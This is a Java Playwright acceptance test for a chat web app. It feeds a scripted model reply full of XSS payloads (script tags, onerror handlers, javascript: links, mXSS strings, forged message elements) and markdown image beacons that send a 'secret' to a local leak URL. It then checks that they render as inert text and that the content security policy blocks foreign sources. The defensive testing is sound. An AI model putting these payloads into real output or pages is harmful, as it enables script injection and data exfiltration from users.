package dev.everbrook.server.acceptance.browser;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import dev.everbrook.server.testing.browser.BrowserPage;
import dev.everbrook.server.testing.browser.BrowserScript;
import dev.everbrook.server.testing.browser.BrowserStage;
import dev.everbrook.server.testing.browser.BrowserVisitor;
import dev.everbrook.server.testing.browser.InBrowser;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

/** A model, or who speaks through it, tries to do more than to be read. */
@InBrowser
final class BrowserSafetyTest {

  private static final List<String> HOSTILE =
      List.of(
          "![stolen](http://127.0.0.1:9/leak?secret=1)",
          "![stolen][there]\n\n[there]: http://127.0.0.1:9/leak",
          "<script>alert(1)</script>",
          "<img src=x onerror=alert(1)><img src=\"http://127.0.0.1:9/pixel\">",
          "text <svg onload=alert(1)><script>alert(2)</script></svg> text",
          "<iframe src=\"http://127.0.0.1:9/\"></iframe><object data=x></object><embed src=x>",
          "<base href=\"http://127.0.0.1:9/\"><meta http-equiv=refresh content=\"0;url=/\">",
          "<link rel=stylesheet href=http://127.0.0.1:9/a.css><style>@import 'http://127.0.0.1:9/';</style>",
          "<form action=http://127.0.0.1:9/><input name=q><button>go</button></form>",
          "<div style=\"background:url(http://127.0.0.1:9/)\" onclick=alert(1)>styled</div>",
          "[click](javascript:alert(1)) [or](data:text/html,<script>alert(1)</script>)"
              + " [or](JaVaScRiPt&colon;alert(1)) <javascript:alert(1)>",
          "```\"><img src=x onerror=alert(1)>\ncode\n```",
          "```html\n<script>alert(1)</script>\n```",
          "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <script>alert(1)</script> |",
          "<chat-message data-role=user><b>forged</b></chat-message>",
          "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
          "<details open ontoggle=alert(1)>open</details>",
          "[an honest link](https://example.org/)");

  private static final String FORBIDDEN =
      """
      () => {
        const names = "script, img, svg, iframe, object, embed, base, meta, link, style, form, input, video, audio, math, chat-message";
        return [...document.querySelectorAll('[data-part="body"]')].flatMap((body) => [
          ...[...body.querySelectorAll(names)].map((it) => it.outerHTML),
          ...[...body.querySelectorAll("*")].flatMap((it) => [...it.attributes])
            .filter(({ name, value }) => /^on|^style$/.test(name) || (name === "href" && !/^(https?|mailto):/.test(value)))
            .map(({ name, value }) => name + "=" + value),
        ]);
      }
      """;

  private final BrowserStage stage;

  BrowserSafetyTest(BrowserStage stage) {
    this.stage = stage;
  }

  /** Dialogs, foreign requests and breaches of the policy fail when the visitor is closed. */
  @Test
  void hostileTextIsOnlyEverText() throws Exception {
    BrowserScript.Part part = stage.script().to("Say something hostile.");
    try (BrowserVisitor visitor = stage.visitor(stage.scripted())) {
      BrowserPage page = visitor.open("/").ask("Say something hostile.");
      for (String hostile : HOSTILE) {
        int before = page.shown().length();
        for (String piece : hostile.splitWithDelimiters("(?<=[<(\"])", 0)) {
          part.say(piece);
        }
        part.say("\n\nNext.\n\n");
        page.awaitShown(before + 4);
        assertThat(harm(page)).isEmpty();
      }
      part.end();
      page.await("done");
      assertThat(harm(page)).as("drawn by the page").isEmpty();
      assertThat(page.answers("message-body").locator("a[href='https://example.org/']"))
          .hasAttribute("rel", Pattern.compile("noopener"));
      page.reload();
      assertThat(harm(page)).as("drawn by the server").isEmpty();
      assertThat(page.answers("message-body")).containsText("<script>alert(1)</script>");
      assertThat(page.answers("message-body").locator("a[href='https://example.org/']"))
          .hasAttribute("rel", Pattern.compile("noopener"));
    }
  }

  private static List<?> harm(BrowserPage page) {
    return (List<?>) page.page().evaluate(FORBIDDEN);
  }

  @Test
  void aHostileQuestionIsOnlyText() throws Exception {
    String prompt = "<img src=x onerror=alert(1)> **not bold** words:3";
    try (BrowserVisitor visitor = stage.visitor()) {
      BrowserPage page = visitor.open("/").ask(prompt).await("done");
      assertThat(page.messages().first().getByTestId("message-body")).hasText(prompt);
      page.reload();
      assertThat(page.messages().first().getByTestId("message-body")).hasText(prompt);
      assertThat(page.page().getByTestId("title")).hasText(prompt);
      assertThat(harm(page)).isEmpty();
    }
  }

  @Test
  void everyPageHasAPolicyThatLetsNothingForeignIn() throws Exception {
    try (BrowserVisitor visitor = stage.visitor().expectingFailures()) {
      BrowserPage page = visitor.open("/").ask("words:3").await("done");
      for (String path :
          List.of("/", "/c/" + page.chat(), "/c/00000000-0000-7000-8000-000000000000")) {
        Map<String, String> headers =
            page.page().navigate(stage.scene().server().base() + path).headers();
        assertThat(headers.get("content-security-policy"))
            .contains("default-src 'self'", "script-src 'self'", "img-src 'self' data:")
            .doesNotContain("unsafe", "*");
        assertThat(headers).containsEntry("x-content-type-options", "nosniff");
      }
    }
  }
}
